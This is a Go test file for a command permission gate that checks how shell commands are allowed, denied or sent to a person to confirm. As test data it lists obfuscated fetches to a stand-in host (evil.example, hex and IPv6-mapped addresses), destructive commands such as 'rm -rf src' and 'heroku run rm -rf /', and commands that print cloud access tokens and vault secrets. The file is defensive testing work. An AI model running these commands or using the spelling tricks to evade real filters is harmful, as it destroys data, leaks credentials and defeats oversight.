package tools

import (
	"testing"

	"callgate/permissions"
)

// A benign case runs if its rules allow it, with everything that the gate finds in the text: files that it reads and
// writes, what an allow covers, what the program does.
func TestBenignCorpus(t *testing.T) {
	place := Place{Dir: "/w/app", Roots: []string{"/w/app"}, Home: "/home/u"}
	for _, c := range shellCases(t, "benign") {
		if got := verdict(c.policy(t), analyze(t, KindShell, place, "command", c.Cmd)); got != permissions.Allow {
			t.Errorf("%s: %q: %v, want allow", c.ID, c.Cmd, got)
		}
	}
}

// A rule that denies an address holds for commands that name it, however they spell it.
func TestDeniedAddressesOfCommands(t *testing.T) {
	pol := policy(t, `{ "*": "allow", "web_fetch": { "*": "allow", "*://evil.example/*": "deny", "http://10.0.0.1/*": "deny" } }`)
	place := Place{Dir: "/w/app", Roots: []string{"/w/app"}, Home: "/home/u"}
	for command, want := range map[string]permissions.Action{
		"curl http://evil.example/x":                   permissions.Deny,
		"curl evil.example/x":                          permissions.Deny,
		"curl HTTP://EVIL.example.:80/x":               permissions.Deny,
		"curl http:/evil.example/x":                    permissions.Deny,
		"curl --url=http://evil%2eexample/x":           permissions.Deny,
		"curl http://user@evil.example/x":              permissions.Deny,
		"curl http://167772161/x":                      permissions.Deny,
		"curl http://0xa.1/x":                          permissions.Deny,
		"curl http://[::ffff:10.0.0.1]/x":              permissions.Deny,
		"wget -qO- http://evil.example/x":              permissions.Deny,
		"git clone https://evil.example/x.git":         permissions.Deny,
		"pip install -i https://evil.example/simple y": permissions.Deny,
		"bash -c 'curl http://evil.example/x'":         permissions.Deny,
		"python3 -c 'get(\"http://evil.example/x\")'":  permissions.Deny,
		"frob view-source:http://evil.example/x":       permissions.Deny,
		"curl http://good.example/evil.example/x":      permissions.Allow,
		"curl http://good.example/?u=evil.example":     permissions.Allow,
		"git commit -m 'see http://evil.example/x'":    permissions.Allow,
		"rg http://evil.example/x src":                 permissions.Allow,
	} {
		if got := verdict(pol, analyze(t, KindShell, place, "command", command)); got != want {
			t.Errorf("%s: %v, want %v", command, got, want)
		}
	}
}

// A post to another machine sends; one to this machine, and what only fetches, do not.
func TestPostsSend(t *testing.T) {
	place := Place{Dir: "/w/app", Roots: []string{"/w/app"}, Home: "/home/u"}
	for command, want := range map[string]bool{
		"curl -d a=1 https://a.example":             true,
		"curl -sXPOST https://a.example":            true,
		"curl -X POST https://a.example":            true,
		"curl --json '{}' https://a.example":        true,
		"curl --data-raw x a.example":               true,
		"wget --post-data=a https://a.example":      true,
		"http POST a.example a=1":                   true,
		"http a.example a=1":                        true,
		"curl -d a=1 http://localhost:3000/x":       false,
		"curl -d a=1 http://127.0.0.1:3000/x":       false,
		"curl https://a.example":                    false,
		"curl -fsSL -o x https://a.example/a=b":     false,
		"curl -H 'a: b' -X GET https://a.example/d": false,
		"http a.example/x q==1":                     false,
		"http GET localhost:3000/x":                 false,
	} {
		a := analyze(t, KindShell, place, "command", command)
		if got := a.Commands[0].Sends; got != want {
			t.Errorf("%s: %v, want %v", command, got, want)
		}
	}
}

// What an allow that stops at the program does not cover: a script, code, a package, what lies elsewhere.
func TestAllowsThatStopShort(t *testing.T) {
	place := Place{Dir: "/w/app", Roots: []string{"/w/app"}, Home: "/home/u"}
	for _, c := range []struct {
		allow, command string
		want           permissions.Action
	}{
		{"bash *", "bash scripts/x.sh", permissions.Ask},
		{"bash scripts/*", "bash scripts/x.sh a b", permissions.Allow},
		{"bash scripts/x.sh *", "bash scripts/x.sh a b", permissions.Allow},
		{"bash scripts/*", "bash scripts/../../x.sh", permissions.Ask},
		{"sh *", "sh x.sh", permissions.Ask},
		{"zsh *", "zsh x.zsh", permissions.Ask},
		{"bash *", "bash -c 'ls'", permissions.Ask}, // ls needs a rule of its own
		{"bazel *", "bazel build //...", permissions.Allow},
		{"bazel build //...", "bazel build //...", permissions.Allow},
		{"bazel *", "bazel run //tools:deploy", permissions.Ask},
		{"invoke *", "invoke deploy", permissions.Ask},
		{"invoke *", "invoke test", permissions.Allow},
		{"mvn *", "mvn clean install", permissions.Allow},
		{"mvn *", "mvn clean deploy", permissions.Ask},
		{"gcloud *", "gcloud projects list", permissions.Allow},
		{"gcloud *", "gcloud auth print-access-token", permissions.Ask},
		{"gcloud *", "gcloud secrets versions access latest", permissions.Ask},
		{"az *", "az vm list", permissions.Allow},
		{"az *", "az account get-access-token", permissions.Ask},
		{"az *", "az keyvault secret show -n x", permissions.Ask},
		{"poetry *", "poetry run pytest", permissions.Allow},
		{"poetry *", "poetry run python x.py", permissions.Ask},
		{"uv *", "uv run pytest", permissions.Allow},
		{"uv *", "uv run --with x pytest", permissions.Ask},
		// what runs other programs
		{"watchexec *", "watchexec -e go -- ./x.sh", permissions.Ask},
		{"watchexec *", "watchexec -r rm a.txt", permissions.Ask},
		{"nodemon *", "nodemon x.js", permissions.Ask},
		{"nodemon x.js *", "nodemon x.js a", permissions.Allow},
		{"nodemon *", "nodemon --exec rm -rf src", permissions.Ask},
		{"envchain *", "envchain aws ./x.sh", permissions.Ask},
		{"envchain aws ./x.sh *", "envchain aws ./x.sh a", permissions.Allow},
		{"gdb *", "gdb ./x", permissions.Ask},
		{"gdb ./x *", "gdb ./x", permissions.Allow},
		{"lldb *", "lldb ./x", permissions.Ask},
		{"op run *", "op run -- ./x.sh", permissions.Ask},
		{"op run -- ./x.sh *", "op run -- ./x.sh a", permissions.Allow},
		{"doppler run *", "doppler run -- ./x.sh", permissions.Ask},
		{"doppler run *", "doppler run --command='rm -rf src'", permissions.Ask},
		{"infisical run *", "infisical run --command 'rm -rf src'", permissions.Ask},
		{"flox activate *", "flox activate -c 'rm -rf src'", permissions.Ask},
		{"aws-vault exec *", "aws-vault exec prod -- rm -rf src", permissions.Ask},
		{"chamber exec *", "chamber exec app -- rm -rf src", permissions.Ask},
		{"sops exec-env *", "sops exec-env s.yaml 'rm -rf src'", permissions.Ask},
		{"sops exec-file *", "sops exec-file s.yaml 'rm -rf src'", permissions.Ask},
		{"envdir *", "envdir d rm -rf src", permissions.Ask},
		{"pipx run *", "pipx run evil", permissions.Ask},
		{"pipx run ruff *", "pipx run ruff check .", permissions.Allow},
		{"poetry run *", "poetry run python x.py", permissions.Ask},
		{"poetry run pytest *", "poetry run pytest -q", permissions.Allow},
		{"jbang *", "jbang x.java", permissions.Ask},
		{"jbang x.java *", "jbang x.java", permissions.Allow},
		{"dagger *", "dagger call build", permissions.Ask},
		{"dagger call build *", "dagger call build", permissions.Allow},
		{"dagger *", "dagger run rm -rf src", permissions.Ask},
		{"air *", "air -c evil.toml", permissions.Ask},
		{"onchange *", "onchange src -- rm -rf src", permissions.Ask},
		{"mpirun *", "mpirun -n 2 ./x", permissions.Ask},
		{"heroku run *", "heroku run rm -rf /", permissions.Ask},
		{"distrobox enter *", "distrobox enter x -- rm -rf src", permissions.Ask},
		{"wsl *", "wsl rm -rf x", permissions.Ask},
		{"npm-run-all *", "npm-run-all evil deploy", permissions.Ask},
		// other places than those that a name stands for
		{"aws s3 ls *", "aws s3 ls --endpoint-url https://x.example", permissions.Ask},
		{"aws s3 ls *", "aws s3 ls --endpoint https://x.example", permissions.Ask},
		{"aws s3 ls *", "aws s3 ls --no-verify-ssl", permissions.Ask},
		{"aws s3 ls *", "aws s3 ls s3://x --recursive", permissions.Allow},
		{"gh api *", "gh api https://x.example/y", permissions.Ask},
		{"gh api repos/*", "gh api repos/a/b/pulls", permissions.Allow},
		{"gh pr view *", "gh pr view 1 -R x.example/a/b", permissions.Ask},
		{"gh pr view *", "gh pr view 1 -R a/b", permissions.Allow},
		{"go build *", "GOSUMDB=off go build ./...", permissions.Ask},
		{"git config *", "git config edit", permissions.Ask},
		{"git config *", "git config --edit", permissions.Ask},
	} {
		pol := policy(t, `{ "*": "ask", "shell_exec": { "`+c.allow+`": "allow" } }`)
		if got := verdict(pol, analyze(t, KindShell, place, "command", c.command)); got != c.want {
			t.Errorf("%s by %q: %v, want %v", c.command, c.allow, got, c.want)
		}
	}
}
